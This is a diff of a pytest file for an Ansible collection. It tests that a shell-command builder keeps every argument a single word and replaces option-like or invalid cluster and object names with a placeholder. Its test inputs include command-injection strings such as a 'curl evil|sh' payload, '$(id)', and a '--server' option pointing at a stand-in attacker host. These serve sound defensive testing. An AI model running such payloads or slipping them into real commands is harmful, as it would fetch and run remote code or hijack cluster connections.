@@ -12,7 +12,7 @@ import shlex
 import unicodedata
 
 import pytest
-from ansible_collections.liqo.fabric.plugins.module_utils._fabric.command import command
+from ansible_collections.liqo.fabric.plugins.module_utils._fabric.command import UNKNOWN, Option, command
 from ansible_collections.liqo.fabric.plugins.module_utils._fabric.legal import is_inert
 from ansible_collections.liqo.fabric.plugins.module_utils._fabric.terminal import (
     LONGEST,
@@ -148,6 +148,42 @@ def test_printable_values_stay_as_they_are() -> None:
     assert printable([math.inf, -math.inf, math.nan]) == [None, None, None]
 
 
-@pytest.mark.parametrize("word", ["x'; curl evil|sh; '", "$(id)", "`id`", "a b", "", "\\", "-e", '{"a":1}'])
+@pytest.mark.parametrize("word", ["x'; curl evil|sh; '", "$(id)", "`id`", "a b", "", "\\", '{"a":1}'])
 def test_each_word_of_a_command_stays_one_word(word: str) -> None:
     assert shlex.split(command("ansible-playbook", word)) == ["ansible-playbook", word]
+
+
+OPTIONS = ("-n", "--server=https://evil.example", "--all", "-", "--", "-A", "--overwrite")
+NO_NAMES = (
+    "a b",
+    "A",
+    "$(id)",
+    "",
+    "a/b/c",
+    "/a",
+    "a,",
+    "a=b c",
+    "=a",
+    "a=-b",
+    "https://evil.example",
+    "a:b",
+    "x" * 254,
+)
+
+
+@pytest.mark.parametrize("program", ["kubectl", "oc", "ansible-playbook", "python"])
+@pytest.mark.parametrize("name", OPTIONS)
+def test_no_name_of_a_cluster_is_an_option_of_a_command(program: str, name: str) -> None:
+    assert command(program, Option("-n"), name, "get", name) == f"{program} -n {UNKNOWN} get {UNKNOWN}"
+
+
+@pytest.mark.parametrize("name", NO_NAMES)
+def test_what_is_no_name_of_an_object_is_no_word_for_kubectl(name: str) -> None:
+    assert command("kubectl", "describe", "pod", name) == f"kubectl describe pod {UNKNOWN}"
+
+
+@pytest.mark.parametrize(
+    "word", ["gw-leaf-b", "a.b", "deployment/gw-b", "pods,services", "liqo.io/x=leaf-b", "x=", "NAME"]
+)
+def test_names_and_labels_stay_in_a_command(word: str) -> None:
+    assert command("kubectl", "get", word) == f"kubectl get {word}"
